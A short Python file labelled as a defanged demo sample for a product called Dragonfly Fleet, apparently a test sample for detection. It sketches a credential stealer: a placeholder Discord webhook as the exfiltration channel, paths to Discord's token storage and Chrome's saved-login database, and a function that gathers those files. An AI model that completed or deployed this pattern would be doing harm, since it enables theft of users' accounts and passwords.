# DEFANGED DEMO SAMPLE for Dragonfly Fleet. Nothing here runs: the webhook id
# is made up and the functions are never called.
import os

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/demo-not-a-real-token"
PATHS = [
    os.path.join("AppData", "Roaming", "discord", r"Local Storage\leveldb"),
    os.path.join("AppData", "Local", "Google", "Chrome", "User Data", "Default", "Login Data"),
]


def _collect():
    return [p for p in PATHS if os.path.exists(p)]
